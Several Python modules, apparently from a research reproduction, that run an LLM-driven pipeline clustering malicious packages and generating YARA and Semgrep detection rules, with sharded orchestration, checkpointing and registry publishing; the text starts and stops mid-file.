    session.generate(label="nightly")        # publishes v1
    service.scan_batch(packages)             # scans with v1, no manual step

Each ``generate`` call consumes the pending packages, so a long-lived
session produces one registry version per call — the closed analyze/craft/
deploy loop of the paper, run continuously.
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass, field
from typing import Iterable, Optional, Sequence

from repro.api.stages import (
    PipelineRunInfo,
    PipelineStage,
    StageContext,
    default_stages,
)
from repro.core.config import RuleLLMConfig
from repro.core.rules import GeneratedRuleSet
from repro.corpus.package import Package
from repro.extraction.embedding import CodeEmbedder
from repro.llm.base import LLMProvider
from repro.llm.profiles import get_profile
from repro.llm.simulated import SimulatedAnalystLLM
from repro.obs.metrics import get_registry as _obs_registry
from repro.obs.trace import get_tracer
from repro.scanserve.registry import RulesetRegistry, RulesetVersion

_GENERATE_RUNS = _obs_registry().counter(
    "repro_generate_runs_total", "Generation session runs."
)
_STAGE_SECONDS = _obs_registry().histogram(
    "repro_stage_seconds", "Wall time per pipeline stage.", ("stage",)
)
from repro.scanserve.scheduler import BoundedQueue


@dataclass
class SessionResult:
    """Outcome of one ``generate`` call: the rules and where they went."""

    rule_set: GeneratedRuleSet
    version: Optional[RulesetVersion] = None
    info: PipelineRunInfo = field(default_factory=PipelineRunInfo)
    stage_seconds: dict[str, float] = field(default_factory=dict)
    batch_sizes: list[int] = field(default_factory=list)
    shard_label: str = ""  # which fleet shard produced this (orchestrated runs)

    @property
    def published(self) -> bool:
        return self.version is not None

    @property
    def total_seconds(self) -> float:
        return sum(self.stage_seconds.values())

    def describe(self) -> str:
        counts = self.rule_set.counts()
        stages = ", ".join(
            f"{name} {seconds:.2f}s" for name, seconds in self.stage_seconds.items()
        )
        where = f" -> registry v{self.version.version}" if self.version else ""
        shard = f"[{self.shard_label}] " if self.shard_label else ""
        return (
            f"{shard}{self.info.package_count} packages in {len(self.batch_sizes)} "
            f"batch(es): {counts['yara']} YARA + {counts['semgrep']} Semgrep rules "
            f"({counts['rejected']} rejected){where}"
            + (f" [{stages}]" if stages else "")
        )


class GenerationSession:
    """Incremental, stage-based rule generation with registry auto-publish."""

    def __init__(
        self,
        config: RuleLLMConfig | None = None,
        provider: LLMProvider | None = None,
        stages: Sequence[PipelineStage] | None = None,
        registry: RulesetRegistry | None = None,
        auto_publish: bool = True,
        label: str = "",
        embedder: CodeEmbedder | None = None,
        shard_label: str = "",
    ) -> None:
        self.config = config or RuleLLMConfig()
        self.provider = provider or SimulatedAnalystLLM(
            profile=get_profile(self.config.model), seed=self.config.seed
        )
        self.embedder = embedder or CodeEmbedder()
        self.stages: list[PipelineStage] = (
            list(stages) if stages is not None else default_stages()
        )
        self.registry = registry
        self.auto_publish = auto_publish
        self.label = label
        self.shard_label = shard_label
        self._feed_lock = threading.Lock()  # keeps _pending/_batch_sizes coherent
        self._pending: list[Package] = []
        self._batch_sizes: list[int] = []
        self.results: list[SessionResult] = []

    # -- feeding --------------------------------------------------------------------
    @property
    def pending_count(self) -> int:
        """Packages fed since the last ``generate`` call."""
        with self._feed_lock:
            return len(self._pending)

    @property
    def pending_batches(self) -> int:
        with self._feed_lock:
            return len(self._batch_sizes)

    def add_package(self, package: Package) -> int:
        """Feed a single package (a batch of one); returns the batch index."""
        return self.add_batch([package])

    def add_batch(self, packages: Iterable[Package]) -> int:
        """Feed one batch of packages; returns the batch's index this round.

        Empty batches are ignored (a stream drain can legitimately come up
        dry) and do not advance the batch counter.
        """
        batch = list(packages)
        with self._feed_lock:
            if not batch:
                return len(self._batch_sizes)
            self._pending.extend(batch)
            self._batch_sizes.append(len(batch))
            return len(self._batch_sizes)

    def consume(
        self,
        queue: BoundedQueue,
        batch_size: int = 64,
        poll_interval: float = 0.05,
    ) -> int:
        """Drain a :class:`BoundedQueue` package feed until it is closed.

        The feeder side streams packages with ``queue.put`` (blocking while
        the queue is full — the generation side exerts backpressure simply
        by draining slowly) and calls ``queue.close()`` when done.  Packages
        are accumulated into batches of ``batch_size``; a lull in the feed
        (no item within ``poll_interval``) flushes the partial batch, so
        bursty feeds map onto bursty batches.  Returns the number of
        packages consumed.
        """
        if batch_size < 1:
            raise ValueError("batch_size must be positive")
        consumed = 0
        batch: list[Package] = []

        def flush() -> None:
            nonlocal consumed
            if batch:
                consumed += len(batch)
                self.add_batch(batch)
                batch.clear()

        while True:
            try:
                # a closed queue still hands out its remaining items; only a
                # closed *and empty* queue raises, so nothing can be dropped
                item = queue.get(timeout=poll_interval)
            except TimeoutError:
                flush()
                continue
            except RuntimeError:  # closed and fully drained
                break
            batch.append(item)
            if len(batch) >= batch_size:
                flush()
        flush()
        return consumed

    # -- generation -----------------------------------------------------------------
    def generate(self, label: str = "") -> SessionResult:
        """Run the stage chain over everything fed since the last call.

        Publishes the resulting rule set into the bound registry (when
        ``auto_publish`` is on and at least one rule survived alignment) and
        clears the pending feed, so the next ``generate`` starts a fresh
        version.  If a stage raises, the fed packages are restored so a
        retry (or the next ``generate``) still covers them.
        """
        with self._feed_lock:
            packages, self._pending = self._pending, []
            batch_sizes, self._batch_sizes = self._batch_sizes, []
        context = StageContext(
            config=self.config,
            provider=self.provider,
            embedder=self.embedder,
            packages=packages,
            batch_sizes=list(batch_sizes),
            shard_label=self.shard_label,
        )
        context.rule_set.model = self.provider.model_name
        context.info.package_count = len(packages)
        tracer = get_tracer()
        if packages:
            try:
                with tracer.span(
                    "session.generate",
                    packages=len(packages),
                    shard=self.shard_label,
                ):
                    for stage in self.stages:
                        started = time.perf_counter()
                        with tracer.span(f"stage.{stage.name}"):
                            stage.run(context)
                        elapsed = time.perf_counter() - started
                        context.stage_seconds[stage.name] = (
                            context.stage_seconds.get(stage.name, 0.0) + elapsed
                        )
                        _STAGE_SECONDS.observe(elapsed, stage=stage.name)
            except BaseException:
                # put the feed back (ahead of anything fed concurrently)
                with self._feed_lock:
                    self._pending[:0] = packages
                    self._batch_sizes[:0] = batch_sizes
                raise
        _GENERATE_RUNS.inc()
        version: Optional[RulesetVersion] = None
        if self.registry is not None and self.auto_publish and context.rule_set.rules:
            version = self.registry.publish_generated(
                context.rule_set, label=label or self.label
            )
        result = SessionResult(
            rule_set=context.rule_set,
            version=version,
            info=context.info,
            stage_seconds=context.stage_seconds,
            batch_sizes=list(batch_sizes),
            shard_label=self.shard_label,
        )
        self.results.append(result)
        return result

    @property
    def last_result(self) -> Optional[SessionResult]:
        return self.results[-1] if self.results else None
