"""Pluggable pipeline stages of a generation session.

The paper's pipeline (cluster -> craft -> refine -> align, Figure 3) used to
live as hard-coded private methods on :class:`repro.core.pipeline.RuleLLM`.
Here each step is an explicit :class:`PipelineStage` operating on a shared,
typed :class:`StageContext`, so a session can swap, drop or insert stages:
the ablation arms of Table X, the pre-clustered variant experiment
(Section V-B) and future sharded-generation work are all stage-list edits
instead of new orchestrators.

Stage contract: ``run(context)`` reads the context fields earlier stages
populated and writes its own.  ``ClusterStage`` fills ``cluster_groups``
from the fed packages, ``CraftStage`` turns groups into coarse rules,
``RefineStage`` merges them, ``AlignStage`` compiles-or-repairs every rule
into the final ``rule_set``.  The call sequence against the LLM provider is
exactly the one the original orchestrator issued, so a session run is
bit-for-bit reproducible against the pre-stage pipeline.
"""

from __future__ import annotations

import abc
from dataclasses import dataclass, field

from repro.core.aligning import AligningStage, AlignmentReport
from repro.core.config import RuleLLMConfig
from repro.core.crafting import CoarseRule, CraftingStage
from repro.core.refining import RefinedRule, RefiningStage
from repro.core.rules import GeneratedRuleSet
from repro.corpus.package import Package
from repro.extraction.clustering import ClusterResult, cluster_packages
from repro.extraction.embedding import CodeEmbedder
from repro.llm.base import LLMProvider


@dataclass
class PipelineRunInfo:
    """Diagnostics of one pipeline run (inspected by experiments and examples)."""

    package_count: int = 0
    cluster_count: int = 0
    discarded_clusters: int = 0
    coarse_rule_count: int = 0
    refined_rule_count: int = 0
    alignment: AlignmentReport = field(default_factory=AlignmentReport)


@dataclass
class StageContext:
    """Typed state shared by the stages of one generation run."""

    config: RuleLLMConfig
    provider: LLMProvider
    embedder: CodeEmbedder
    packages: list[Package]
    batch_sizes: list[int] = field(default_factory=list)
    shard_label: str = ""  # set when this run is one shard of an orchestrated fleet

    # populated by the stages
    clusters: ClusterResult | None = None
    cluster_groups: list[tuple[int, list[Package]]] = field(default_factory=list)
    coarse: list[CoarseRule] = field(default_factory=list)
    refined: list[RefinedRule] = field(default_factory=list)
    rule_set: GeneratedRuleSet = field(default_factory=GeneratedRuleSet)
    info: PipelineRunInfo = field(default_factory=PipelineRunInfo)
    stage_seconds: dict[str, float] = field(default_factory=dict)


class PipelineStage(abc.ABC):
    """One step of the generation pipeline."""

    name: str = "stage"

    @abc.abstractmethod
    def run(self, context: StageContext) -> None:
        """Advance ``context`` by this stage's work."""

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"<{type(self).__name__} {self.name!r}>"


class ClusterStage(PipelineStage):
    """Knowledge extraction (Section III): embed and cluster the packages."""

    name = "cluster"

    def run(self, context: StageContext) -> None:
        config = context.config
        n_clusters = max(
            1, round(len(context.packages) / config.packages_per_cluster_hint)
        )
        clusters = cluster_packages(
            context.packages,
            embedder=context.embedder,
            n_clusters=n_clusters,
            similarity_threshold=config.cluster_similarity_threshold,
            random_seed=config.cluster_random_seed,
            max_iterations=config.cluster_max_iterations,
        )
        context.clusters = clusters
        context.cluster_groups = list(enumerate(clusters.clusters))
        context.info.cluster_count = clusters.retained_count
        context.info.discarded_clusters = len(clusters.discarded)


class PresetClusterStage(PipelineStage):
    """Treat the fed packages as one pre-formed cluster.

    Used by the malware-variant experiment (Section V-B), where rules are
    generated from a couple of known-similar samples and evaluated on the
    remaining, unseen variants of the same group.
    """

    name = "cluster"

    def __init__(self, cluster_id: int = 0) -> None:
        self.cluster_id = cluster_id

    def run(self, context: StageContext) -> None:
        context.cluster_groups = [(self.cluster_id, list(context.packages))]
        context.info.cluster_count = 1


class PresetGroupsStage(PipelineStage):
    """Adopt pre-formed clusters, preserving their (global) cluster ids.

    The sharded-generation seam: a :class:`repro.api.orchestrator.
    GenerationOrchestrator` clusters the full corpus **once**, hands each
    shard the whole clusters assigned to it, and the shard's session skips
    re-clustering.  Because refinement groups by ``(cluster id, format,
    origin)`` and alignment is per-rule, a shard's output is exactly the
    per-cluster slice of what one big session would produce — which is what
    makes the merged publish bit-for-bit identical to single-session rules.
    """

    name = "cluster"

    def __init__(self, groups: list[tuple[int, list[Package]]]) -> None:
        self.groups = [(cluster_id, list(members)) for cluster_id, members in groups]

    def run(self, context: StageContext) -> None:
        context.cluster_groups = [
            (cluster_id, list(members)) for cluster_id, members in self.groups
        ]
        context.info.cluster_count = len(self.groups)


class CraftStage(PipelineStage):
    """Crafting (Section IV-A): coarse rules per cluster from basic units.

    Pass a prebuilt (possibly customised) :class:`CraftingStage` to reuse
    it; by default one is constructed from the context's provider/config.
    """

    name = "craft"

    def __init__(self, crafting: CraftingStage | None = None) -> None:
        self.crafting = crafting

    def run(self, context: StageContext) -> None:
        crafting = self.crafting or CraftingStage(context.provider, context.config)
        coarse: list[CoarseRule] = []
        for cluster_id, members in context.cluster_groups:
            if context.config.use_basic_units:
                coarse.extend(crafting.craft_for_cluster(cluster_id, members))
            else:
                coarse.extend(crafting.craft_direct(cluster_id, members[0]))
        context.coarse = coarse
        context.info.coarse_rule_count = len(coarse)


class RefineStage(PipelineStage):
    """Refining (Section IV-B): merge coarse rules into scalable rules."""

    name = "refine"

    def __init__(self, refining: RefiningStage | None = None) -> None:
        self.refining = refining

    def run(self, context: StageContext) -> None:
        refining = self.refining or RefiningStage(context.provider, context.config)
        context.refined = refining.refine(context.coarse)
        context.info.refined_rule_count = len(context.refined)


class AlignStage(PipelineStage):
    """Aligning (Section IV-C): compile-or-repair every rule with the agent."""

    name = "align"

    def run(self, context: StageContext) -> None:
        aligning = AligningStage(context.provider, context.config)
        for index, refined_rule in enumerate(context.refined):
            generated, ok = aligning.align(refined_rule, index)
            if ok:
                context.rule_set.add(generated)
            else:
                context.rule_set.reject(generated)
        context.info.alignment = aligning.report


def default_stages() -> list[PipelineStage]:
    """The paper's full pipeline as a stage chain."""
    return [ClusterStage(), CraftStage(), RefineStage(), AlignStage()]


def group_stages(cluster_id: int = 0) -> list[PipelineStage]:
    """The pipeline over one pre-formed group of similar packages."""
    return [PresetClusterStage(cluster_id), CraftStage(), RefineStage(), AlignStage()]
