"""Sharded generation fleets: partition a corpus, run one session per shard,
publish the outputs as one merged version or a stack of layers.

The paper's pipeline makes one monolithic pass over the corpus; registry
scale wants the *generation* side sharded like the scanning side already is.
:class:`GenerationOrchestrator` does that on top of the existing seams:

1. a pluggable :class:`ShardPlan` partitions the corpus —
   :class:`ClusterShardPlan` clusters the **full** corpus once and deals
   whole clusters to shards (the default: merged output is bit-for-bit what
   one big session would produce), :class:`BehaviorShardPlan` groups by
   malware family / behavior, :class:`RoundRobinShardPlan` just deals
   packages out;
2. one :class:`~repro.api.session.GenerationSession` runs per shard —
   concurrently on a thread pool (stage work is embarrassingly parallel
   across shards) or sequentially when ``max_workers <= 1``, the
   deterministic lane tests use;
3. the shard outputs publish through the registry's fleet semantics:
   ``publish="merged"`` unions them into one version
   (:meth:`~repro.scanserve.registry.RulesetRegistry.publish_merged`, with
   rule-name collision resolution and per-shard provenance), while
   ``publish="stacked"`` builds a chain of cumulative layers
   (:meth:`~repro.scanserve.registry.RulesetRegistry.publish_stacked`) whose
   parent pointers make single-shard rollback an ``activate`` call.

A :class:`~repro.scanserve.service.ScanService` subscribed to the registry
(``live_rescan``) re-scans its recency window the moment the fleet's
version goes live — see ``examples/orchestrated_fleet.py`` for the full
loop.
"""

from __future__ import annotations

import abc
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from typing import Callable, Iterable, Optional, Sequence

from repro.api.session import GenerationSession, SessionResult
from repro.api.stages import PipelineStage, PresetGroupsStage, default_stages
from repro.core.config import RuleLLMConfig
from repro.core.rules import GeneratedRuleSet
from repro.corpus.package import Package
from repro.extraction.clustering import cluster_packages
from repro.extraction.embedding import CodeEmbedder
from repro.llm.base import LLMProvider
from repro.llm.profiles import get_profile
from repro.llm.simulated import SimulatedAnalystLLM
from repro.obs.metrics import get_registry as _obs_registry
from repro.obs.trace import get_tracer
from repro.scanserve.registry import (
    RulesetRegistry,
    RulesetVersion,
    merge_shard_rulesets,
)

#: Publish modes accepted by :meth:`GenerationOrchestrator.run`.
MERGED = "merged"
STACKED = "stacked"
NONE = "none"
_PUBLISH_MODES = (MERGED, STACKED, NONE)


@dataclass
class CorpusShard:
    """One shard of the fleet: a label, its packages and (optionally) a
    preset stage chain replacing the default cluster stage."""

    label: str
    packages: list[Package] = field(default_factory=list)
    stages: Optional[list[PipelineStage]] = None

    def __len__(self) -> int:
        return len(self.packages)


class ShardPlan(abc.ABC):
    """A strategy for partitioning a corpus into generation shards."""

    name: str = "plan"

    @abc.abstractmethod
    def partition(
        self,
        packages: list[Package],
        config: RuleLLMConfig,
        embedder: CodeEmbedder,
    ) -> list[CorpusShard]:
        """Split ``packages`` into shards.  Must be deterministic."""

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"<{type(self).__name__} {self.name!r}>"


class RoundRobinShardPlan(ShardPlan):
    """Deal packages out round-robin — the simplest even split.

    Each shard re-clusters its own subset, so the merged output is a valid
    rule set but not necessarily identical to a single-session run (use
    :class:`ClusterShardPlan` for that guarantee).
    """

    name = "round-robin"

    def __init__(self, shards: int) -> None:
        if shards < 1:
            raise ValueError("shards must be positive")
        self.shards = shards

    def partition(self, packages, config, embedder):
        return [
            CorpusShard(label=f"rr-{index}", packages=packages[index :: self.shards])
            for index in range(self.shards)
            if packages[index :: self.shards]
        ]


class BehaviorShardPlan(ShardPlan):
    """One shard per malware family / behavior group.

    Packages are keyed by ``family`` (falling back to the first labelled
    behavior, then ``"unlabeled"``).  When ``max_shards`` caps the fleet
    below the number of groups, whole groups are dealt to the least-loaded
    shard (largest groups first) so shard sizes stay balanced.
    """

    name = "behavior"

    def __init__(self, max_shards: Optional[int] = None) -> None:
        if max_shards is not None and max_shards < 1:
            raise ValueError("max_shards must be positive")
        self.max_shards = max_shards

    @staticmethod
    def _key(package: Package) -> str:
        if package.family:
            return package.family
        if package.behaviors:
            return package.behaviors[0]
        return "unlabeled"

    def partition(self, packages, config, embedder):
        groups: dict[str, list[Package]] = {}
        for package in packages:
            groups.setdefault(self._key(package), []).append(package)
        ordered = sorted(groups.items(), key=lambda kv: (-len(kv[1]), kv[0]))
        shard_count = len(ordered)
        if self.max_shards is not None:
            shard_count = min(shard_count, self.max_shards)
        bins: list[tuple[list[str], list[Package]]] = [
            ([], []) for _ in range(shard_count)
        ]
        for key, members in ordered:
            # min() keeps the first least-loaded bin: deterministic ties
            labels, packed = min(bins, key=lambda b: len(b[1]))
            labels.append(key)
            packed.extend(members)
        return [
            CorpusShard(label="+".join(labels), packages=packed)
            for labels, packed in bins
            if packed
        ]


class ClusterShardPlan(ShardPlan):
    """Cluster the full corpus once, then deal whole clusters to shards.

    Exactly replicates :class:`~repro.api.stages.ClusterStage` (same
    embedder, hyper-parameters and cluster-count heuristic), hands each
    shard its clusters through a :class:`PresetGroupsStage` that preserves
    the **global** cluster ids, and balances shards greedily by package
    count.  Since refinement groups by ``(cluster, format, origin)`` and
    alignment is per-rule, the union of the shard outputs is bit-for-bit the
    single-session rule set — the property ``publish="merged"`` relies on.
    """

    name = "cluster"

    def __init__(self, shards: int) -> None:
        if shards < 1:
            raise ValueError("shards must be positive")
        self.shards = shards

    def partition(self, packages, config, embedder):
        if not packages:
            return []
        n_clusters = max(1, round(len(packages) / config.packages_per_cluster_hint))
        clusters = cluster_packages(
            packages,
            embedder=embedder,
            n_clusters=n_clusters,
            similarity_threshold=config.cluster_similarity_threshold,
            random_seed=config.cluster_random_seed,
            max_iterations=config.cluster_max_iterations,
        )
        groups = list(enumerate(clusters.clusters))
        shard_count = min(self.shards, len(groups)) or 1
        assigned: list[list[tuple[int, list[Package]]]] = [
            [] for _ in range(shard_count)
        ]
        sizes = [0] * shard_count
        # largest clusters first onto the least-loaded shard (stable ties)
        for cluster_id, members in sorted(
            groups, key=lambda g: (-len(g[1]), g[0])
        ):
            target = min(range(shard_count), key=lambda i: (sizes[i], i))
            assigned[target].append((cluster_id, members))
            sizes[target] += len(members)
        shards: list[CorpusShard] = []
        for index, cluster_groups in enumerate(assigned):
            if not cluster_groups:
                continue
            cluster_groups = sorted(cluster_groups, key=lambda g: g[0])
            shards.append(
                CorpusShard(
                    label=f"clusters-{index}",
                    packages=[p for _, members in cluster_groups for p in members],
                    stages=[PresetGroupsStage(cluster_groups), *default_stages()[1:]],
                )
            )
        return shards


@dataclass
class ShardRun:
    """One shard's execution record."""

    shard: CorpusShard
    result: SessionResult
    seconds: float = 0.0

    @property
    def label(self) -> str:
        return self.shard.label


@dataclass
class FleetResult:
    """Outcome of one orchestrated fleet run."""

    plan: str
    publish: str
    shard_runs: list[ShardRun] = field(default_factory=list)
    rule_set: GeneratedRuleSet = field(default_factory=GeneratedRuleSet)
    version: Optional[RulesetVersion] = None  # merged version / stack top
    layers: list[RulesetVersion] = field(default_factory=list)  # stacked only
    elapsed_seconds: float = 0.0
    workers: int = 1
    run_key: str = ""  # checkpoint identity when a store is attached
    resumed: list[str] = field(default_factory=list)  # shards from checkpoints

    @property
    def shard_count(self) -> int:
        return len(self.shard_runs)

    @property
    def package_count(self) -> int:
        return sum(len(run.shard) for run in self.shard_runs)

    @property
    def published(self) -> bool:
        return self.version is not None

    def describe(self) -> str:
        counts = self.rule_set.counts()
        where = ""
        if self.version is not None:
            where = f" -> registry v{self.version.version}"
            if self.layers:
                chain = "+".join(f"v{layer.version}" for layer in self.layers)
                where += f" (stack {chain})"
        shards = ", ".join(
            f"{run.label}:{len(run.result.rule_set)}r/{len(run.shard)}p"
            for run in self.shard_runs
        )
        return (
            f"fleet[{self.plan}] {self.package_count} packages over "
            f"{self.shard_count} shards ({self.workers} workers): "
            f"{counts['yara']} YARA + {counts['semgrep']} Semgrep rules "
            f"({counts['rejected']} rejected){where} "
            f"in {self.elapsed_seconds:.2f}s [{shards}]"
        )

    def to_dict(self) -> dict:
        counts = self.rule_set.counts()
        return {
            "plan": self.plan,
            "publish": self.publish,
            "workers": self.workers,
            "packages": self.package_count,
            "elapsed_seconds": round(self.elapsed_seconds, 6),
            "rules": counts,
            "version": self.version.version if self.version else None,
            "layers": [layer.version for layer in self.layers],
            "run_key": self.run_key,
            "resumed": list(self.resumed),
            "merged_cache_key": self.version.cache_key if self.version else "",
            "shards": [
                {
                    "label": run.label,
                    "packages": len(run.shard),
                    "rules": len(run.result.rule_set),
                    "rejected": len(run.result.rule_set.rejected),
                    "seconds": round(run.seconds, 6),
                    "resumed": run.label in self.resumed,
                }
                for run in self.shard_runs
            ],
        }


class GenerationOrchestrator:
    """Run a fleet of generation sessions over a sharded corpus.

    ``max_workers`` bounds the thread pool running shard sessions; ``None``
    picks ``min(shard count, 4)`` and any value ``<= 1`` runs the shards
    sequentially (bit-identical results either way — shards are independent
    and the simulated provider is stateless, so threading only changes
    wall-clock).  Each shard gets its **own** provider from
    ``provider_factory`` (default: a fresh deterministic
    :class:`SimulatedAnalystLLM` with the config's model/seed), so no
    provider state is shared across threads.
    """

    def __init__(
        self,
        config: RuleLLMConfig | None = None,
        plan: ShardPlan | None = None,
        registry: RulesetRegistry | None = None,
        max_workers: Optional[int] = None,
        provider_factory: Optional[Callable[[], LLMProvider]] = None,
        embedder: CodeEmbedder | None = None,
        label: str = "",
        store=None,
    ) -> None:
        self.config = config or RuleLLMConfig()
        self.plan = plan or ClusterShardPlan(shards=2)
        self.registry = registry
        self.max_workers = max_workers
        self.embedder = embedder or CodeEmbedder()
        self.label = label
        self.provider_factory = provider_factory or (
            lambda: SimulatedAnalystLLM(
                profile=get_profile(self.config.model), seed=self.config.seed
            )
        )
        self.results: list[FleetResult] = []
        #: A :class:`repro.store.RuleStore` makes every shard completion a
        #: durable checkpoint and enables ``run(..., resume=True)``.
        self.store = store
        #: Test/CI hook called after each shard's checkpoint lands
        #: (label, completed count) — the kill-and-resume smoke uses it.
        self.on_shard_checkpoint: Optional[Callable[[str, int], None]] = None

    # -- execution ----------------------------------------------------------------
    def run(
        self,
        packages: Iterable[Package],
        publish: str = MERGED,
        label: str = "",
        activate: bool = True,
        resume: bool = False,
    ) -> FleetResult:
        """Partition, generate per shard, and publish the fleet's output.

        ``publish`` is ``"merged"`` (one collision-resolved union version),
        ``"stacked"`` (a chain of cumulative layers, top activated) or
        ``"none"`` (generate only).  Without a bound registry nothing is
        published regardless.  The merged rule set is always computed and
        returned on the :class:`FleetResult`.

        With a bound store, each shard's output checkpoints to the journal
        as it completes, and ``resume=True`` reconciles the plan against
        prior checkpoints (matched by run key: same plan + config + corpus
        content), re-running only the shards without one.  Shards merge in
        plan order either way, so a resumed run's merged publish is
        bit-identical to an uninterrupted one.
        """
        if publish not in _PUBLISH_MODES:
            raise ValueError(f"publish must be one of {_PUBLISH_MODES}, got {publish!r}")
        corpus = list(packages)
        with get_tracer().span(
            "fleet.run", publish=publish, packages=len(corpus)
        ) as fleet_span:
            result = self._run_traced(
                corpus, publish, label, activate, resume, fleet_span
            )
        _obs_registry().counter(
            "repro_fleet_runs_total", "Fleet orchestrator runs."
        ).inc()
        return result

    def _run_traced(
        self,
        corpus: list,
        publish: str,
        label: str,
        activate: bool,
        resume: bool,
        fleet_span,
    ) -> FleetResult:
        started = time.perf_counter()
        shards = self.plan.partition(corpus, self.config, self.embedder)
        fleet_span.set_attr("shards", len(shards))
        label = label or self.label

        checkpointer = None
        run_key = ""
        recovered: dict[str, object] = {}
        if self.store is not None:
            # deferred import: the orchestrator works without the store layer
            from repro.store.checkpoints import (
                FleetCheckpointer,
                fleet_run_key,
                shard_fingerprint,
            )

            checkpointer = FleetCheckpointer(self.store)
            labels = [shard.label for shard in shards]
            run_key = fleet_run_key(
                self.plan.name,
                publish,
                self.config.model,
                self.config.seed,
                [
                    (shard.label, shard_fingerprint(shard.label, shard.packages))
                    for shard in shards
                ],
            )
            if resume:
                recovered = checkpointer.reconcile(run_key, labels).finished
            checkpointer.begin(run_key, labels, self.plan.name, publish)

        pending = [shard for shard in shards if shard.label not in recovered]
        workers = self.max_workers
        if workers is None:
            workers = min(len(pending), 4) or 1
        workers = max(1, min(workers, len(pending) or 1))
        live = self._run_shards(pending, workers, checkpointer, run_key)

        # splice checkpointed and live shards back into plan order — the
        # merge's determinism (and the bit-identical resume guarantee)
        # depends on shard order, not on which process ran each shard
        by_label = {run.label: run for run in live}
        runs: list[ShardRun] = []
        resumed: list[str] = []
        for shard in shards:
            if shard.label in by_label:
                runs.append(by_label[shard.label])
                continue
            checkpoint = recovered[shard.label]
            runs.append(
                ShardRun(
                    shard=shard,
                    result=SessionResult(
                        rule_set=checkpoint.rule_set, shard_label=shard.label
                    ),
                    seconds=checkpoint.seconds,
                )
            )
            resumed.append(shard.label)

        labeled = [(run.label, run.result.rule_set) for run in runs]
        fleet = FleetResult(
            plan=self.plan.name,
            publish=publish,
            shard_runs=runs,
            workers=workers,
            run_key=run_key,
            resumed=resumed,
        )
        provenance = []
        if labeled:
            fleet.rule_set, provenance = merge_shard_rulesets(labeled)
        if (
            self.registry is not None
            and publish != NONE
            and fleet.rule_set.rules
        ):
            if publish == MERGED:
                fleet.version = self.registry.publish_merged_set(
                    fleet.rule_set, provenance, label=label, activate=activate
                )
            else:
                fleet.layers = self.registry.publish_stacked(
                    labeled, label=label, activate=activate
                )
                fleet.version = fleet.layers[-1]
        if checkpointer is not None:
            checkpointer.merge_complete(
                run_key,
                fleet.version.version if fleet.version else None,
                cache_key=fleet.version.cache_key if fleet.version else "",
            )
        fleet.elapsed_seconds = time.perf_counter() - started
        self.results.append(fleet)
        return fleet

    def _run_shards(
        self,
        shards: Sequence[CorpusShard],
        workers: int,
        checkpointer=None,
        run_key: str = "",
    ) -> list[ShardRun]:
        completed = 0
        completed_lock = threading.Lock()
        tracer = get_tracer()
        # pool threads don't inherit the contextvar; hand the ambient span
        # context to each shard explicitly so shard spans join this trace
        parent_ctx = tracer.current_context()

        def run_one(shard: CorpusShard) -> ShardRun:
            with tracer.activate(parent_ctx):
                with tracer.span("fleet.shard", shard=shard.label):
                    return run_one_inner(shard)

        def run_one_inner(shard: CorpusShard) -> ShardRun:
            nonlocal completed
            session = GenerationSession(
                config=self.config,
                provider=self.provider_factory(),
                stages=shard.stages,
                embedder=CodeEmbedder(),  # embedders are stateless; one per
                # shard keeps the sessions fully isolated across threads
                shard_label=shard.label,
            )
            session.add_batch(shard.packages)
            shard_started = time.perf_counter()
            result = session.generate(label=shard.label)
            seconds = time.perf_counter() - shard_started
            if checkpointer is not None:
                checkpointer.shard_complete(
                    run_key, shard.label, result.rule_set, seconds
                )
            with completed_lock:
                completed += 1
                count = completed
            if self.on_shard_checkpoint is not None:
                self.on_shard_checkpoint(shard.label, count)
            return ShardRun(shard=shard, result=result, seconds=seconds)

        if workers <= 1 or len(shards) <= 1:
            return [run_one(shard) for shard in shards]
        with ThreadPoolExecutor(max_workers=workers) as pool:
            return list(pool.map(run_one, shards))

    @property
    def last_result(self) -> Optional[FleetResult]:
        return self.results[-1] if self.results else None
