"""The unified public API: streaming pipeline sessions wired to the scanner.

``repro.api`` is the one-stop facade over the generate -> publish -> scan
loop.  The pieces:

* :class:`GenerationSession` — feed malicious packages incrementally (in
  batches or from a :class:`~repro.scanserve.scheduler.BoundedQueue`
  stream), run the cluster/craft/refine/align stage chain, and auto-publish
  each resulting rule set into a versioned registry;
* :class:`PipelineStage` / :class:`StageContext` — the pluggable stage
  protocol the session executes (swap a stage to build ablations or custom
  pipelines);
* :class:`GenerationOrchestrator` — sharded generation fleets: a pluggable
  :class:`ShardPlan` partitions the corpus, one session runs per shard
  (threaded or sequential), and the outputs publish as one **merged**
  version or a **stack** of cumulative layers with per-shard provenance;
* :class:`~repro.scanserve.service.ScanService` — the scanning side of the
  loop; bind a session to ``service.registry`` and every ``generate`` call
  hot-swaps fresh rules under live scan traffic.  With
  ``ScanServiceConfig(live_rescan=True)`` the service subscribes to the
  registry's event bus and re-scans its recency window on every publish,
  reporting a :class:`~repro.scanserve.service.RescanDelta`.

Minimal end-to-end loop::

    from repro.api import GenerationSession, ScanService

    service = ScanService()
    session = GenerationSession(registry=service.registry)
    session.add_batch(first_wave_of_malware)
    session.add_batch(second_wave_of_malware)
    result = session.generate(label="nightly")   # auto-publishes v1
    batch = service.scan_batch(suspect_packages)  # scans with v1

The legacy one-shot entry point :class:`repro.core.pipeline.RuleLLM` is a
thin wrapper over :class:`GenerationSession` and keeps working unchanged.
"""

from repro.api.orchestrator import (
    BehaviorShardPlan,
    ClusterShardPlan,
    CorpusShard,
    FleetResult,
    GenerationOrchestrator,
    RoundRobinShardPlan,
    ShardPlan,
    ShardRun,
)
from repro.api.session import GenerationSession, SessionResult
from repro.api.stages import (
    AlignStage,
    ClusterStage,
    CraftStage,
    PipelineRunInfo,
    PipelineStage,
    PresetClusterStage,
    PresetGroupsStage,
    RefineStage,
    StageContext,
    default_stages,
    group_stages,
)
from repro.core.config import RuleLLMConfig
from repro.core.rules import GeneratedRule, GeneratedRuleSet
from repro.scanserve.registry import (
    PublishEvent,
    RulesetRegistry,
    RulesetVersion,
    ShardProvenance,
    merge_shard_rulesets,
)
from repro.scanserve.scheduler import BoundedQueue
from repro.scanserve.service import (
    BatchScanResult,
    RescanDelta,
    ScanService,
    ScanServiceConfig,
)

__all__ = [
    "GenerationSession",
    "SessionResult",
    "GenerationOrchestrator",
    "FleetResult",
    "ShardRun",
    "ShardPlan",
    "CorpusShard",
    "ClusterShardPlan",
